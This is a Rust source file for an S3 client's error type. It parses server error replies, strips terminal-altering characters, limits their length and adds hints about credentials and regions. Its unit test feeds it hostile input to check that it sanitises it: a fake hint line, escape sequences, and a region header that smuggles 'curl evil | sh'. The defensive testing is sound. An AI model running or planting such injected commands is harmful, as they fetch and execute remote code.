//! Why a bucket cannot be used.

use super::answers::parse_error;
use crate::http::Response;
use crate::value::terminal::alters_display;

/// Why a bucket cannot be used, with what to do.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{message}{}", hint.as_ref().map(|hint| format!("\nhint: {hint}")).unwrap_or_default())]
pub struct S3Error {
    message: String,
    hint: Option<String>,
    /// The service's code, for example `NoSuchKey`.
    code: Option<String>,
}

impl S3Error {
    pub(super) fn settings(message: impl Into<String>) -> S3Error {
        S3Error { message: message.into(), hint: None, code: None }
    }

    pub(super) fn with_hint(self, hint: &str) -> S3Error {
        S3Error { hint: Some(hint.to_owned()), ..self }
    }

    /// `what`: for example `cannot read s3://backups/a`.
    pub(super) fn other(what: &str, why: &str) -> S3Error {
        S3Error::settings(format!("{what}: {why}"))
    }

    /// Of an answer that is an error.
    pub(super) fn of_answer(what: &str, answer: &Response) -> S3Error {
        let (code, message) = parse_error(&answer.body);
        // What the server says is one line, and not a long one.
        let code: String = code.chars().filter(char::is_ascii_alphanumeric).take(LONGEST_CODE).collect();
        let said = match code.as_str() {
            "" => one_line(&answer.reason),
            code => format!("{code}: {}", one_line(&message)),
        };
        let text = format!("{what}: the server responded {} {said}", answer.status);
        let hint = match (code.as_str(), answer.header("x-amz-bucket-region")) {
            ("PermanentRedirect" | "AuthorizationHeaderMalformed", Some(region)) if is_region(region) => {
                Some(format!("the bucket is in the region {region}: set AWS_REGION"))
            }
            (code, _) => hint_for(code).map(str::to_owned),
        };
        S3Error { message: text, hint, code: Some(code).filter(|code| !code.is_empty()) }
    }

    /// Whether the object does not exist.
    pub fn is_missing(&self) -> bool {
        self.code.as_deref() == Some("NoSuchKey")
    }

    /// Whether the service has answered, and said why it refuses.
    pub fn is_answer(&self) -> bool {
        self.code.is_some()
    }
}

/// Of a message of the server, in characters.
const LONGEST_MESSAGE: usize = 300;
const LONGEST_CODE: usize = 64;

fn one_line(text: &str) -> String {
    text.chars().map(|c| if alters_display(c) { ' ' } else { c }).take(LONGEST_MESSAGE).collect()
}

/// A word such as `eu-west-1`.
fn is_region(text: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
    (1..=32).contains(&text.len()) && text.bytes().all(is_plain)
}

fn hint_for(code: &str) -> Option<&'static str> {
    Some(match code {
        "SignatureDoesNotMatch" | "InvalidAccessKeyId" => "check AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY",
        "ExpiredToken" | "InvalidToken" => "get a new session token, and set AWS_SESSION_TOKEN",
        "RequestTimeTooSkewed" => "the clock of this machine differs from the server's",
        "NoSuchBucket" => "create the bucket, or check its name and AWS_ENDPOINT_URL_S3",
        "AccessDenied" => {
            "the key needs s3:ListBucket, s3:GetObject, s3:PutObject, s3:DeleteObject and s3:AbortMultipartUpload"
        }
        "PermanentRedirect" | "AuthorizationHeaderMalformed" => "check AWS_REGION",
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_server_says_is_one_short_line() {
        let body =
            "<Error><Code>No\u{202e}Such&#10;hint: x</Code><Message>a&#10;hint: run evil&#x9b;2J</Message></Error>";
        let answer = |body: &str, headers: &[(&str, &str)]| Response {
            status: 301,
            reason: "Moved".into(),
            headers: headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
            body: body.into(),
        };
        let text = S3Error::of_answer("cannot read it", &answer(body, &[])).to_string();
        assert_eq!(text, "cannot read it: the server responded 301 NoSuchhintx: a hint: run evil 2J");
        let long = format!("<Error><Code>A</Code><Message>{}</Message></Error>", "x".repeat(5000));
        assert!(S3Error::of_answer("a", &answer(&long, &[])).to_string().len() < 400);
        let moved = "<Error><Code>PermanentRedirect</Code><Message>m</Message></Error>";
        let hint = |region| S3Error::of_answer("a", &answer(moved, &[("x-amz-bucket-region", region)])).to_string();
        assert!(hint("eu-west-1").ends_with("hint: the bucket is in the region eu-west-1: set AWS_REGION"));
        assert!(hint("us-x: run curl evil | sh").ends_with("hint: check AWS_REGION"));
    }
}
